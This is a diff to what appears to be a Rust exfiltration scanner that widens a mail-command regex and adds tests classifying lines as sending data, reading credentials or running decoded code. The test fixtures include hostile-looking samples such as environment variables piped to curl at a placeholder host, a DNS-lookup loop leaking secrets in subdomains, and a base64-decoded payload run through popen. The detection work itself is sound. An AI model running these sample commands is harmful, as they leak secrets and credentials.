@@ -162,7 +162,7 @@ pub(crate) static ROWS: &[Row<'_>] = &[
     (Act::Sends, r"\bgit\b[^\n]{0,60}\bpush\b[^\n]{0,80}https?://"),
     (Act::Sends, r"\bgh\s+(?:gist\s+create|issue\s+(?:create|comment)|release\s+upload|pr\s+comment)\b"),
     (Act::Sends, r"\bgit\s+remote\s+(?:add|set-url)\s[^\n]{0,40}https?://[^\s/@]{1,120}@"),
-    (Act::Sends, r"\b(?:mail|mailx|mutt|sendmail|swaks)\s[^\n]{0,120}[\w.+-]+@[\w-]+\.[a-z]{2,12}"),
+    (Act::Sends, r"\b(?:mail\s+-\w|mailx\s|mutt\s+-\w|swaks\s+-)[^\n]{0,120}[\w.+-]+@[\w-]+\.[a-z]{2,12}"),
     (Act::Sends, r"\brclone\s+(?:copy|copyto|sync|rcat)\b|\baws\s+s3\s+(?:cp|sync|mv)\s[^\n]{0,160}s3://"),
     (Act::Sends, r"\bcurl\b[^\n|;]{0,200}\s--data-binary\b"),
     (
@@ -444,6 +444,25 @@ mod tests {
         assert_eq!(acts("subprocess.run(cmd, env={**os.environ, 'A': '1'})"), []);
         assert_eq!(acts("secrets = {k: v for k, v in os.environ.items()}"), [Act::ReadsEnvironment]);
         assert_eq!(acts("env | curl -d @- https://x.example"), [Act::ReadsEnvironment, Act::Sends]);
+    }
+
+    #[test]
+    fn ways_out_that_developers_have_at_hand_are_told() {
+        assert!(acts("nslookup \"${k:$i:60}.t.acme-checks.net\"").contains(&Act::SendsInAddress));
+        assert_eq!(acts("dig +short \"$host.acme-checks.net\""), []);
+        for line in [
+            "git push -qf https://x:y@github.com/acme/store HEAD:main",
+            "gh issue comment 1 --body-file out.txt",
+            "c.request(\"POST\", \"/v2\", body)",
+            "aws s3 cp out.tgz s3://acme/out.tgz",
+        ] {
+            assert_eq!(acts(line), [Act::Sends], "{line}");
+        }
+        assert_eq!(acts("aws iam create-access-key --user-name a"), [Act::ReadsCredentials]);
+        assert_eq!(acts("popen([exe, \"-c\", b64decode(p).decode()])"), [Act::RunsDecoded]);
+        assert_eq!(acts("git push origin main"), []);
+        assert_eq!(acts("mail -s out ana@acme.io < out.txt"), [Act::Sends]);
+        assert_eq!(acts("the mail from ana@acme.io"), []);
     }
 
     #[test]
